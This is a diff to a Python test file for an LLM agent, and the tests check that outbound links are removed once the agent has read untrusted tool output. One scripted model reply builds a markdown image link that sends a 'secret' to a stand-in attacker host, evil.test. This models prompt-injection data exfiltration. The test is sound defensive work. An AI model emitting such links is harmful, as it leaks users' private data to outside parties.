@@ -13,7 +13,7 @@ from ollamesh.inference.v1.inference_service_pb2_grpc import InferenceServiceStu
 from services.agent.adapters.langchain_agent import LangChainAgent
 from services.agent.adapters.middleware.asking import SUMMARY_TOKENS_MAX
 from services.agent.core.budget import Limits
-from services.agent.core.conversation import Message, Role, ToolCall
+from services.agent.core.conversation import Message, Role
 from services.agent.core.links import GONE
 from services.agent.core.record import Record
 from services.agent.core.summary import ASK, SO_FAR
@@ -50,7 +50,6 @@ def summaries() -> KeptSummaries:
 async def agent(
     inference: FakeInference, tools: dict[str, Echo], summaries: KeptSummaries
 ) -> AsyncIterator[LangChainAgent]:
-    """Nobody knows who wrote what `search` returns; what `add` returns can be trusted."""
     async with grpc.aio.insecure_channel(inference.target) as channel:
         loop = asking(summaries, context_token_count=1024, link_hosts={"docs.example.org"})
         yield LangChainAgent(InferenceServiceStub(channel), tools, anew, loop)
@@ -63,39 +62,27 @@ def heard(listener: Listener) -> str:
 async def test_links_go_once_the_model_may_have_read_what_anybody_wrote(
     agent: LangChainAgent, inference: FakeInference
 ) -> None:
-    for tool, is_left in (("add", True), ("search", False)):
+    for is_tainted in (False, True):
         inference.script = [
-            Reply(texts=[f"Before {LINK}. "], calls=[(tool, "{}")]),
+            Reply(texts=[f"Before {LINK}. "], calls=[("add", "{}")]),
             Reply(texts=["After !", "[x](https", "://evil.test/?q=secret)", f" {ALLOWED}"]),
         ]
-        listener = Listener()
+        listener = Reading(taints=is_tainted)
         answer = await agent.work(assignment(), listener)
-        after = LINK if is_left else f"![x]{GONE}"
+        after = f"![x]{GONE}" if is_tainted else LINK
         assert answer == f"After {after} {ALLOWED}"
         assert heard(listener) == f"Before {LINK}. {answer}", "and watchers see no more"
 
 
-async def test_a_thread_that_read_it_before_is_tainted_too(
-    agent: LangChainAgent, inference: FakeInference
-) -> None:
-    call = ToolCall(call_id="c", name="search", arguments_json="{}")
-    history = [
-        QUESTION,
-        Message(role=Role.ASSISTANT, content="", calls=(call,)),
-        Message(role=Role.TOOL, content="x", call_id="c", tool_name="search"),
-        Message(role=Role.ASSISTANT, content="So."),
-        QUESTION,
-    ]
-    inference.otherwise = Reply(texts=[LINK])
-    fresh = assignment()
-    cases = [
-        (replace(fresh, messages=history), False),
-        (replace(fresh, is_cut=True), False),
-        (replace(fresh, summary="What was."), False),
-        (fresh, True),
-    ]
-    for made, is_left in cases:
-        assert (await agent.work(made, Listener()) == LINK) == is_left
+class Reading(Listener):
+    """What its tools return may taint it."""
+
+    def __init__(self, *, taints: bool) -> None:
+        super().__init__()
+        self._taints = taints
+
+    async def tool_returned(self, call_id: str, *args: object, **more: object) -> None:
+        self.tainted = self._taints
 
 
 def long_history(count: int) -> Sequence[Message]:
